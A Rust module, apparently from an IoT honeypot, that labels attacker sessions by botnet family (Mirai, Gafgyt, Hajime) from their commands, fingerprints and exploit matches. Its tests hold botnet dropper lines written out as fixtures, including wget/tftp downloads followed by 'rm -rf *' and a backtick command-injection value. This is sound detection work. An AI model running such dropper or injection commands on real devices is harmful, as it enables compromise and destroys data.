//! Which botnet a session belongs to, from what it did (reference §5).
//!
//! Rules are data (`profiles/rules/families.toml`, embedded; an operator's file extends
//! or overrides them). They are checked in order; after them, a session that probed
//! `/bin/busybox <WORD>` with a word that is no applet is a Mirai variant labelled by
//! that word, and anything else is `unknown`. Every label carries its evidence.

use serde::{Deserialize, Serialize};

use crate::triage::Triage;

/// The built-in rules.
pub const BUILTIN_RULES: &str = include_str!("../../../profiles/rules/families.toml");

/// Errors in a rules file.
#[derive(Debug, thiserror::Error)]
#[error("family rules: {0}")]
pub struct RulesError(#[from] toml::de::Error);

/// One rule.
#[derive(Clone, Debug, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub struct Rule {
    /// Family id (`mirai-loader`, `gafgyt`, …).
    pub family: String,
    /// What the rule looks for, for humans.
    #[serde(default)]
    pub description: String,
    /// Distinct patterns that must match.
    #[serde(default = "one")]
    pub min: usize,
    /// Substrings of features.
    pub patterns: Vec<String>,
    /// Exploit-table entries of the family's spreading set: the rule matches too when
    /// the session's source sent at least `min_exploits` of them lately (through any
    /// of its sessions).
    #[serde(default)]
    pub exploits: Vec<String>,
    /// How many of `exploits` (0: the set is not used).
    #[serde(default)]
    pub min_exploits: usize,
}

fn one() -> usize {
    1
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RulesFile {
    rule: Vec<Rule>,
}

/// An ordered rule set.
#[derive(Clone, Debug)]
pub struct Rules {
    rules: Vec<Rule>,
}

/// What a session did, as the classifier sees it.
#[derive(Clone, Debug, Default)]
pub struct SessionFacts {
    /// Command lines as typed.
    pub commands: Vec<String>,
    /// URLs download tools asked for.
    pub downloads: Vec<String>,
    /// Paths of files the session left (captured samples).
    pub files: Vec<String>,
    /// Triage of those files.
    pub triage: Vec<Triage>,
    /// The client's telnet fingerprint.
    pub fingerprint: Option<String>,
    /// Whether the accepted credential is in Mirai's table.
    pub mirai_credential: bool,
    /// The SSH client's identification line (a feature `ssh-client:<line>`).
    pub ssh_client: Option<String>,
    /// Exploit-table entries the session's web requests matched (features
    /// `exploit:<name>`).
    pub exploits: Vec<String>,
    /// Exploit-table entries its source sent lately, through any of its sessions
    /// (for the rules' exploit sets).
    pub source_exploits: Vec<String>,
    /// Applet names of the device (a `/bin/busybox WORD` with such a word is no token);
    /// shared by every session of a sensor.
    pub applets: std::sync::Arc<[String]>,
}

/// Mirai's answer to BusyBox telnetd's opening (reference §1.4).
pub const MIRAI_FINGERPRINT: &str = "fffc01 fffb1f fffa1f00500018fff0 fffd01 fffd03";

/// A session's label.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Label {
    /// Family id.
    pub family: String,
    /// Finer label: the probe token of a Mirai variant (`BOTNET`, `SORA`, …).
    pub sub_label: Option<String>,
    /// 0.0 to 1.0.
    pub confidence: f64,
    /// What matched.
    pub evidence: Vec<String>,
}

impl Rules {
    /// The built-in rules.
    pub fn builtin() -> Result<Self, RulesError> {
        let f: RulesFile = toml::from_str(BUILTIN_RULES)?;
        Ok(Self { rules: f.rule })
    }

    /// Adds an operator's rules: same family replaces, new families go before the
    /// built-in fallbacks (`hajime-candidate`, `mirai-scanner`).
    pub fn extend_from_toml(&mut self, text: &str) -> Result<(), RulesError> {
        let f: RulesFile = toml::from_str(text)?;
        for rule in f.rule {
            if let Some(existing) = self.rules.iter_mut().find(|r| r.family == rule.family) {
                *existing = rule;
            } else {
                let at = self
                    .rules
                    .iter()
                    .position(|r| r.family == "hajime-candidate" || r.family == "mirai-scanner")
                    .unwrap_or(self.rules.len());
                self.rules.insert(at, rule);
            }
        }
        Ok(())
    }

    /// The rules, in order.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Labels a session.
    pub fn classify(&self, facts: &SessionFacts) -> Label {
        let mut features: Vec<String> = Vec::new();
        features.extend(facts.commands.iter().cloned());
        features.extend(facts.downloads.iter().cloned());
        features.extend(facts.files.iter().cloned());
        for t in &facts.triage {
            if t.upx_zeroed_header {
                features.push("triage:upx_zeroed_header".into());
            }
            if t.mirai.is_some() {
                features.push("triage:mirai_config".into());
            }
            features.extend(t.urls.iter().cloned());
        }
        let fp_mirai = facts.fingerprint.as_deref() == Some(MIRAI_FINGERPRINT);
        if fp_mirai {
            features.push("fingerprint:mirai".into());
        }
        if facts.mirai_credential {
            features.push("credentials:mirai".into());
        }
        features.extend(facts.exploits.iter().map(|e| format!("exploit:{e}")));
        if let Some(client) = &facts.ssh_client {
            features.push(format!("ssh-client:{client}"));
        }
        let token = probe_token(&facts.commands, &facts.applets);
        for rule in &self.rules {
            let matched: Vec<&String> = rule
                .patterns
                .iter()
                .filter(|p| features.iter().any(|f| f.contains(p.as_str())))
                .collect();
            let from_source: Vec<&String> = rule
                .exploits
                .iter()
                .filter(|e| facts.source_exploits.contains(e))
                .collect();
            let by_exploits = rule.min_exploits > 0 && from_source.len() >= rule.min_exploits;
            if matched.len() >= rule.min.max(1) || by_exploits {
                let mut evidence: Vec<String> =
                    matched.iter().map(|p| format!("matched {p:?}")).collect();
                let share = if by_exploits {
                    let names: Vec<&str> = from_source.iter().map(|e| e.as_str()).collect();
                    evidence.push(format!("its source sent the exploits {}", names.join(", ")));
                    from_source.len() as f64 / rule.exploits.len().max(1) as f64
                } else {
                    matched.len() as f64 / rule.patterns.len().max(1) as f64
                };
                let mut confidence = 0.5 + 0.5 * share.min(1.0);
                let mirai_family = rule.family.starts_with("mirai");
                if mirai_family && fp_mirai {
                    confidence += 0.1;
                    evidence.push("Mirai's telnet fingerprint".into());
                }
                if mirai_family && facts.mirai_credential {
                    confidence += 0.1;
                    evidence.push("a credential from Mirai's table".into());
                }
                return Label {
                    family: rule.family.clone(),
                    sub_label: token.clone(),
                    confidence: (confidence.min(1.0) * 100.0).round() / 100.0,
                    evidence,
                };
            }
        }
        if let Some(word) = token {
            let mut evidence = vec![format!("probed /bin/busybox {word}")];
            let mut confidence: f64 = 0.6;
            if fp_mirai {
                confidence += 0.2;
                evidence.push("Mirai's telnet fingerprint".into());
            }
            if facts.mirai_credential {
                confidence += 0.1;
                evidence.push("a credential from Mirai's table".into());
            }
            return Label {
                family: "mirai-variant".into(),
                sub_label: Some(word),
                confidence: (confidence.min(1.0) * 100.0).round() / 100.0,
                evidence,
            };
        }
        Label {
            family: "unknown".into(),
            sub_label: None,
            confidence: 0.0,
            evidence: Vec::new(),
        }
    }
}

/// The word of the first `/bin/busybox WORD` probe whose word is not an applet.
pub fn probe_token(commands: &[String], applets: &[String]) -> Option<String> {
    for line in commands {
        for part in line.split([';', '|', '&']) {
            let mut words = part.split_whitespace();
            while let Some(w) = words.next() {
                if w == "/bin/busybox" || w == "busybox" {
                    if let Some(word) = words.next() {
                        let token_like = (3..=16).contains(&word.len())
                            && word.bytes().all(|b| b.is_ascii_alphanumeric());
                        if token_like && !applets.iter().any(|a| a == word) {
                            return Some(word.to_string());
                        }
                    }
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(commands: &[&str]) -> SessionFacts {
        SessionFacts {
            commands: commands.iter().map(|s| s.to_string()).collect(),
            applets: ["cat", "wget", "tftp", "echo", "ps"]
                .iter()
                .map(|s| s.to_string())
                .collect(),
            ..SessionFacts::default()
        }
    }

    #[test]
    fn mirai_scanner_and_variant_tokens() {
        let rules = Rules::builtin().unwrap();
        let mut f = facts(&["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]);
        f.fingerprint = Some(MIRAI_FINGERPRINT.into());
        f.mirai_credential = true;
        let l = rules.classify(&f);
        assert_eq!(l.family, "mirai-scanner");
        assert_eq!(l.sub_label.as_deref(), Some("MIRAI"));
        assert!(l.evidence.iter().any(|e| e.contains("fingerprint")));
        let l = rules.classify(&facts(&["enable", "sh", "/bin/busybox SORA"]));
        assert_eq!(
            (l.family.as_str(), l.sub_label.as_deref()),
            ("mirai-variant", Some("SORA"))
        );
        // An applet name is not a token.
        assert_eq!(
            rules
                .classify(&facts(&["/bin/busybox cat /proc/mounts"]))
                .family,
            "unknown"
        );
    }

    #[test]
    fn an_operator_rule_can_name_the_exploits_a_session_sent() {
        let mut rules = Rules::builtin().unwrap();
        rules
            .extend_from_toml(
                "[[rule]]\nfamily = \"gpon-spreader\"\ndescription = \"d\"\nmin = 1\npatterns = [\"exploit:gpon-diag-form\"]\n",
            )
            .unwrap();
        let mut f = facts(&["ping -c 4 `id`"]);
        assert_eq!(rules.classify(&f).family, "unknown");
        f.exploits.push("gpon-diag-form".into());
        let l = rules.classify(&f);
        assert_eq!(l.family, "gpon-spreader");
        assert_eq!(l.evidence, ["matched \"exploit:gpon-diag-form\""]);
    }

    #[test]
    fn loader_beats_hajime_and_gafgyt_needs_two_cues() {
        let rules = Rules::builtin().unwrap();
        let loader = facts(&[
            "/bin/busybox ECCHI",
            "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon",
            "./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE",
        ]);
        assert_eq!(rules.classify(&loader).family, "mirai-loader");
        assert_eq!(
            rules.classify(&facts(&["/bin/busybox ECCHI"])).family,
            "hajime-candidate"
        );
        assert_eq!(rules.classify(&facts(&["rm -rf *"])).family, "unknown");
        let g = facts(&["cd /tmp || cd /var/run; wget http://127.0.0.1/z.sh; tftp 127.0.0.1 -c get tz.sh; rm -rf *"]);
        assert_eq!(rules.classify(&g).family, "gafgyt");
    }

    #[test]
    fn operator_rules_extend_and_override() {
        let mut rules = Rules::builtin().unwrap();
        rules
            .extend_from_toml("[[rule]]\nfamily = \"mybot\"\npatterns = [\"/bin/busybox ECCHI\", \"mybot.sh\"]\nmin = 2\n")
            .unwrap();
        assert_eq!(
            rules
                .classify(&facts(&[
                    "/bin/busybox ECCHI; wget http://127.0.0.1/mybot.sh"
                ]))
                .family,
            "mybot"
        );
        assert_eq!(
            rules.classify(&facts(&["/bin/busybox ECCHI"])).family,
            "hajime-candidate"
        );
        assert!(rules.extend_from_toml("[[rule]]\nfamily = 1\n").is_err());
    }
}
